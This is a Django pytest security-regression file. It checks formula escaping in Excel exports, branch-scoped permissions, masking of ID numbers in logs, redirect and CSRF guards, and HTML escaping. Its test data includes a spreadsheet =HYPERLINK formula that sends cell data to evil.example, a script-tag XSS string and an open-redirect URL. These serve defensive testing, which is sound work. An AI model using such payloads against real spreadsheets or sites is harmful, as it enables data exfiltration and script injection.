"""Security review: weaknesses found and fixed, each pinned by a test that failed before the fix."""

import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from activities.models import Activity, ActivityKind
from jiguan import dates

pytestmark = pytest.mark.django_db


# --- spreadsheet exports: user text is never a formula ------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_an_activity_title_typed_as_a_formula_is_exported_as_text(secretary, branch_a, staff_client):
    """openpyxl writes any string starting with "=" as a formula: a secretary's title would run in
    the staff member's Excel (a link that sends the sheet's data elsewhere)."""
    Activity.objects.create(
        organization=branch_a, kind=ActivityKind.THEME_DAY, date=datetime.date(2025, 3, 5), title=FORMULA
    )
    response = staff_client.get(reverse("activities:list"), {"export": "xlsx"})
    cells = [c for c in _cells(response.content) if c.value == FORMULA]
    assert cells, "the title is in the export"
    assert all(c.data_type == "s" for c in cells)


def test_a_commendation_typed_as_a_formula_is_text_in_the_report_workbook(secretary, branch_a, staff_client):
    from members.models import Commendation, CommendationKind

    Commendation.objects.create(
        kind=CommendationKind.OUTSTANDING_MEMBER,
        person_name="=1+1",
        granted_by=branch_a,
        higher_body=FORMULA,
        date=datetime.date(2025, 6, 28),
    )
    response = staff_client.get(reverse("reports:download", args=[branch_a.pk, 2025, "xlsx"]))
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for c in workbook["表彰"].iter_rows() for c in c if c.value in (FORMULA, "=1+1")]
    assert len(cells) == 2
    assert all(c.data_type == "s" for c in cells)


# --- inputs that choose related records: a pk outside the secretary's subtree is refused -----------


def _outside_records(branch_b):
    from tests.activities.helpers import make_member, make_prospect

    return {
        "member": make_member(branch_b, "乙局党员"),
        "prospect": make_prospect(branch_b, "乙局积极分子"),
        "activity": Activity.objects.create(
            organization=branch_b, kind=ActivityKind.THEME_DAY, date=dates.today(), title="乙局活动"
        ),
    }


def test_a_secretary_cannot_record_an_activity_for_another_branch_or_its_people(
    secretary_client, branch_a, branch_b
):
    outside = _outside_records(branch_b)
    today = dates.today().isoformat()
    base = {"kind": ActivityKind.THEME_DAY, "date": today, "title": "越权活动"}
    secretary_client.post(reverse("activities:create"), {**base, "organization": branch_b.pk})
    secretary_client.post(
        reverse("activities:create"),
        {**base, "organization": branch_a.pk, "attendees": [outside["member"].pk]},
    )
    secretary_client.post(
        reverse("activities:create"),
        {
            **base,
            "kind": ActivityKind.TRAINING,
            "organization": branch_a.pk,
            "trainees": [outside["prospect"].pk],
        },
    )
    assert not Activity.objects.filter(title="越权活动").exists()
    # The same form with the secretary's own branch is stored: the refusals above are about scope.
    secretary_client.post(reverse("activities:create"), {**base, "organization": branch_a.pk})
    assert Activity.objects.filter(title="越权活动", organization=branch_a).exists()


def test_a_secretary_cannot_place_people_in_another_branch(secretary_client, secretary, branch_a, branch_b):
    from members.models import Member, Prospect
    from tests.activities.helpers import make_member

    own = make_member(branch_a, "甲局党员")
    secretary_client.post(
        reverse("members:move", args=[own.pk]), {"to_organization": branch_b.pk, "date": "2025-01-02"}
    )
    secretary_client.post(
        reverse("members:create"),
        {
            "name": "越权党员",
            "gender": "M",
            "id_number": "450322197504120111",
            "organization": branch_b.pk,
            "category": "IN_SERVICE",
            "admitted_on": "2000-07-01",
            "confirmed_on": "2001-07-01",
        },
    )
    secretary_client.post(
        reverse("members:prospect_create"),
        {"name": "越权申请人", "gender": "F", "id_number": "450322199504120122", "organization": branch_b.pk},
    )
    own.refresh_from_db()
    assert own.organization == branch_a
    assert not Member.objects.filter(name="越权党员").exists()
    assert not Prospect.objects.filter(name="越权申请人").exists()


def test_a_secretary_cannot_attach_a_new_party_group_to_another_subtrees_unit(
    secretary_client, branch_a, branch_b
):
    from organizations.models import Organization
    from tests.factories import UnitFactory

    branch_b.unit = UnitFactory(name="乙局")
    branch_b.save(update_fields=["unit"])
    page = secretary_client.get(reverse("organizations:found"), {"parent": branch_a.pk})
    assert "乙局" not in [c[1] for c in page.context["form"].fields["unit"].choices]
    secretary_client.post(
        reverse("organizations:found"),
        {
            "kind": "PARTY_GROUP",
            "name": "越权党小组",
            "parent": branch_a.pk,
            "unit": branch_b.unit.pk,
            "founded_on": "2025-01-02",
        },
    )
    assert not Organization.objects.filter(name="越权党小组", unit=branch_b.unit).exists()


# --- logs: no whole ID number or phone, also not in a traceback ---------------------------------


def test_a_logged_exception_does_not_carry_a_whole_id_number(caplog):
    import logging

    from jiguan.masking import MaskPersonalDataFilter

    logger = logging.getLogger("jiguan.security-test")
    handler_stream = io.StringIO()
    handler = logging.StreamHandler(handler_stream)
    handler.addFilter(MaskPersonalDataFilter())
    logger.addHandler(handler)
    try:
        try:
            raise ValueError("重复的公民身份号码 450322197504120111，电话 13877450000")
        except ValueError:
            logger.exception("导入失败")
    finally:
        logger.removeHandler(handler)
    output = handler_stream.getvalue()
    assert "导入失败" in output and "Traceback" in output
    assert "450322197504120111" not in output
    assert "13877450000" not in output
    assert "450322********0111" in output


# --- guards checked in the review (they held; pinned so that they keep holding) -----------------


def test_login_does_not_redirect_to_another_site(client, secretary, password):
    response = client.post(
        reverse("login") + "?next=https://evil.example/",
        {"username": "secretary", "password": password, "next": "https://evil.example/"},
    )
    assert response.status_code == 302
    assert "evil.example" not in response["Location"]


def test_logout_is_a_post_and_every_post_needs_the_csrf_token(secretary):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(secretary)
    assert client.get(reverse("logout")).status_code == 405
    assert client.post(reverse("logout")).status_code == 403


def test_the_report_preview_escapes_the_typed_text(staff_client, committee):
    response = staff_client.post(
        reverse("reports:preview", args=[committee.pk, 2025]), {"text": "<script>alert(1)</script>"}
    )
    assert "<script>" not in response.json()["html"]
    assert "&lt;script&gt;" in response.json()["html"]


def test_a_secretary_reads_no_history_outside_their_subtree(secretary_client, staff, branch_b):
    from django.contrib.contenttypes.models import ContentType

    from reports.models import AnnualReport

    outside = _outside_records(branch_b)
    report = AnnualReport.objects.create(organization=branch_b, year=2025, title="乙局总结", text="")
    records = [*outside.values(), outside["member"].versions.first(), report, branch_b]
    for record in records:
        content_type = ContentType.objects.get_for_model(record)
        url = reverse("history", args=[content_type.pk, record.pk])
        assert secretary_client.get(url).status_code == 404, record
    user_type = ContentType.objects.get_for_model(staff)
    assert secretary_client.get(reverse("history", args=[user_type.pk, staff.pk])).status_code == 403


def test_an_attachment_is_served_with_its_checked_type_and_nosniff(
    secretary_client, branch_a, settings, tmp_path
):
    from django.core.files.base import ContentFile

    from activities.models import Attachment
    from tests.activities.helpers import png_bytes

    settings.MEDIA_ROOT = tmp_path
    activity = Activity.objects.create(
        organization=branch_a, kind=ActivityKind.THEME_DAY, date=datetime.date(2025, 3, 5), title="有照片"
    )
    attachment = Attachment(activity=activity, original_name="照片.png", content_type="image/png", size=10)
    attachment.file.save("照片.png", ContentFile(png_bytes()), save=True)
    response = secretary_client.get(reverse("activities:attachment", args=[attachment.pk]))
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
